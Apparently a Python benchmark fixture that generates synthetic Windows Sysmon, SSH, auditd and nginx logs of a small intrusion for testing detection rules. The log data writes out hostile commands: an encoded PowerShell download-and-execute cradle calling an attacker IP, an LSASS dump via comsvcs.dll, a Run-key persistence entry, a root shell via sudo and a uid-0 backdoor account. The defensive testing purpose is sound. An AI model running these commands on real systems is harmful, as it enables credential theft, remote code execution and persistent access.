"""A small intrusion on a Windows host and on a web server, as their logs tell it: what Aurora's own rules find, with
every field whose words an attacker chooses. Written here; its addresses attack nobody."""

from __future__ import annotations

import base64
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

import orjson

from benchmarks.labelled import Request, World

#: Where the attacker is, for each log another: what one host's log shows is no news about another host.
_WHERE, _SSH, _WEB = "45.33.32.156", "45.33.32.157", "45.33.32.158"
_POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{_WHERE}/a')"
_ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
_SCANNER = "sqlmap/1.7.2#stable (https://sqlmap.org)"


def small_attack(number: int, day: date) -> World:
    """The intrusion on hosts that end in the number (three digits), on a day; the same whatever they are."""
    windows = [orjson.dumps(event) for event in _windows(f"WSOPS-{number}", day)]
    web = f"web01-{number}"
    requests = [
        Request(None, "application/x-ndjson", b"\n".join(windows)),
        Request(f"{web}/auth", "text/plain", "\n".join(_auth(web, day)).encode()),
        Request(f"{web}/audit", "text/plain", "\n".join(_audit(web, day)).encode()),
        Request(f"{web}/nginx", "text/plain", "\n".join(_nginx(day)).encode()),
    ]
    lines = sum(request.body.count(b"\n") + 1 for request in requests)
    return World("a small attack", True, day, requests, lines)


def _at(day: date, seconds: int) -> datetime:
    return datetime.combine(day, time(10), UTC) + timedelta(seconds=seconds)


def _windows(host: str, day: date) -> list[dict[str, Any]]:
    user = f"{host}\\anna"
    shell = {"User": user, "ParentImage": r"C:\Users\anna\Downloads\invoice.exe", "ParentCommandLine": "invoice.exe"}
    script = {"User": user, "ParentImage": r"C:\Windows\System32\cmd.exe", "ParentCommandLine": "cmd.exe /c start"}
    run_key = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updates"
    told: list[tuple[int, dict[str, Any]]] = [
        (1, _started(100, r"C:\Windows\System32\cmd.exe", "cmd.exe /c start", "A1", shell)),
        (1, _started(200, _POWERSHELL, f"powershell.exe -nop -w hidden -enc {_ENCODED}", "B2", script)),
        (22, {"Image": _POWERSHELL, "ProcessId": "200", "QueryName": "cdn.update-check.top", "QueryStatus": "0"}),
        (3, {"Image": _POWERSHELL, "ProcessId": "200", "User": user, "Protocol": "tcp", "Initiated": "true",
             "SourceIp": "192.168.2.5", "SourcePort": "50006", "DestinationIp": _WHERE, "DestinationPort": "80"}),
        (11, {"Image": _POWERSHELL, "ProcessId": "200", "TargetFilename": r"C:\Users\Public\svc.exe"}),
        (1, _started(300, r"C:\Windows\System32\rundll32.exe",
                     r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full", "C3", script)),
        (13, {"Image": _POWERSHELL, "ProcessId": "200", "User": user, "EventType": "SetValue", "TargetObject": run_key,
              "Details": f"powershell.exe -w hidden -enc {_ENCODED}"}),
    ]  # fmt: skip
    return [
        {
            "@timestamp": f"{_at(day, place):%Y-%m-%dT%H:%M:%S}.000Z",
            "UtcTime": f"{_at(day, place):%Y-%m-%d %H:%M:%S}.000",
            "SourceName": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Hostname": host,
            "EventID": code,
            "Message": f"Sysmon {code}",
            **fields,
        }
        for place, (code, fields) in enumerate(told)
    ]


def _started(pid: int, image: str, command: str, mark: str, of: dict[str, str]) -> dict[str, Any]:
    return {
        "ProcessId": str(pid),
        "ProcessGuid": f"{{39e4a257-e287-5f90-0000-{pid:012}}}",
        "Image": image,
        "CommandLine": command,
        "Description": "A program",
        "Hashes": f"SHA256={mark * 32}",
        **of,
    }


def _auth(host: str, day: date) -> list[str]:
    tried = [f"sshd[{n}]: Invalid user oracle from {_SSH} port 40{n}" for n in range(100, 104)]
    did = "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"
    return [
        f"{_at(day, place):%Y-%m-%dT%H:%M:%S}.000000+00:00 {host} {line}"
        for place, line in enumerate([*tried, f"sudo[200]: {did}"])
    ]


def _audit(host: str, day: date) -> list[str]:
    words = ("useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysadm")
    stamp = f"audit({int(_at(day, 30).timestamp())}.429:2839)"
    arguments = " ".join(f'a{place}="{word}"' for place, word in enumerate(words))
    return [
        f"node={host} type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2637 pid=2638"
        ' auid=1002 uid=0 gid=0 euid=0 tty=pts1 ses=87 comm="useradd" exe="/usr/sbin/useradd" key="exec"',
        f"node={host} type=EXECVE msg={stamp}: argc={len(words)} {arguments}",
        f"node={host} type=PROCTITLE msg={stamp}: proctitle={chr(0).join(words).encode().hex().upper()}",
    ]


def _nginx(day: date) -> list[str]:
    return [
        f'{_WEB} - - [{_at(day, place):%d/%b/%Y:%H:%M:%S} +0000] "GET /search?q={place} HTTP/1.1" 200 860 "-"'
        f' "{_SCANNER}"'
        for place in range(3)
    ]
